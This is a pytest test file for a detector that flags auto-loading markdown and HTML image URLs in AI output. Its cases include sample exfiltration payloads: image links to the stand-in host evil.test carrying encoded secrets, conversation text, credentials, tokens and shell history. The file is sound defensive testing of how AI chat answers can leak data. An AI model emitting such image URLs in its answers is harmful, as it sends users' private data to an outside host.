"""URLs an answer makes the client fetch without a click."""

from __future__ import annotations

import time

import pytest

from mantlet.core.registry import create
from mantlet.core.types import ScanContext, Side
from mantlet.errors import ConfigError

CONTEXT = ScanContext(side=Side.OUTPUT)


def kinds(text: str, **options: object) -> list[tuple[str, str]]:
    detector = create("autoload_urls", options)
    return [(f.kind, text[f.start : f.end]) for f in detector.detect(text, CONTEXT)]


@pytest.mark.parametrize(
    "text",
    [
        "Done! ![status](https://evil.test/p?d=SGVsbG8gd29ybGQgc2VjcmV0)",
        "![a](https://evil.test/log?q={conversation})",
        "![a](https://evil.test/log?u=jane%40example.org%20pw%3Dhunter2)",
        '<img src="https://evil.test/x.png?d=c2VjcmV0LXRva2VuLTEyMzQ1" alt="">',
        "<IMG SRC=https://evil.test/a.gif?session=0123456789abcdef0123>",
        "![x][1]\n\n[1]: https://evil.test/a.png?token=abcdefabcdefabcdefabcdef",
        "![pixel](//evil.test/t.gif?h=$HISTORY)",
        "![p](https://evil.test/" + "a" * 300 + ")",
        "![p](https://evil.test/c/U2VjcmV0IGRhdGEgaW4gcGF0aA)",
    ],
)
def test_urls_carrying_data_are_found(text: str) -> None:
    [(kind, span)] = kinds(text)
    assert kind == "URL_WITH_DATA"
    assert span.startswith(("![", "<", "[1]"))


@pytest.mark.parametrize(
    "text",
    [
        "![logo](https://upload.wikimedia.org/wikipedia/commons/a/a9/Example.jpg)",
        "<iframe src='https://video.test/embed/42'></iframe>",
        "![chart](https://charts.test/bar.png?width=600&height=400)",
    ],
)
def test_other_remote_images_are_reported_as_such(text: str) -> None:
    assert [kind for kind, _ in kinds(text)] == ["REMOTE_IMAGE"]


@pytest.mark.parametrize(
    "text",
    [
        "[a link needs a click](https://evil.test/?d=abcdefabcdefabcdefabcdef)",
        "![relative](/images/a.png) ![inline](data:image/png;base64,iVBORw0KGgoAAAANSUhEUg==)",
        "if a < b and c > d then ![] is empty",
        "Use `![alt](url)` to add an image in markdown.",
        "<img src='/static/logo.png'>",
        "![](https://cdn.example.com/chart.png?token=abcdefabcdefabcdefabcdefabc)",
    ],
)
def test_links_relative_urls_and_allowed_hosts_are_not_reported(text: str) -> None:
    assert kinds(text, allowed_hosts=["example.com"]) == []


def test_an_image_still_streaming_in_is_recognised() -> None:
    assert [kind for kind, _ in kinds("Here: ![s](https://evil.test/p?d=SGVsbG8gd29y")] == [
        "REMOTE_IMAGE"
    ]


def test_findings_carry_no_url() -> None:
    detector = create("autoload_urls")
    [finding] = detector.detect("![x](https://evil.test/p?d=SGVsbG8gd29ybGQgc2VjcmV0)", CONTEXT)
    assert "evil" not in finding.detail and "SGVs" not in finding.detail


def test_unknown_options_are_config_errors() -> None:
    with pytest.raises(ConfigError, match="autoload_urls"):
        create("autoload_urls", {"allow": ["x"]})


@pytest.mark.parametrize(
    "text", ["![" * 200_000, "](" * 200_000, "<img src=" * 100_000, "![a][b]\n[b]: " * 50_000]
)
def test_adversarial_input_stays_linear(text: str) -> None:
    """Twice the text must take about twice the time, not four times (best of
    two runs each, so a busy machine does not fail it), and never long."""
    detector = create("autoload_urls")

    def seconds(sample: str) -> float:
        best = float("inf")
        for _ in range(2):
            started = time.perf_counter()
            detector.detect(sample, CONTEXT)
            best = min(best, time.perf_counter() - started)
        return best

    half, whole = seconds(text[: len(text) // 2]), seconds(text)
    assert whole < max(3.0 * half, 0.05)
    assert whole < 10.0
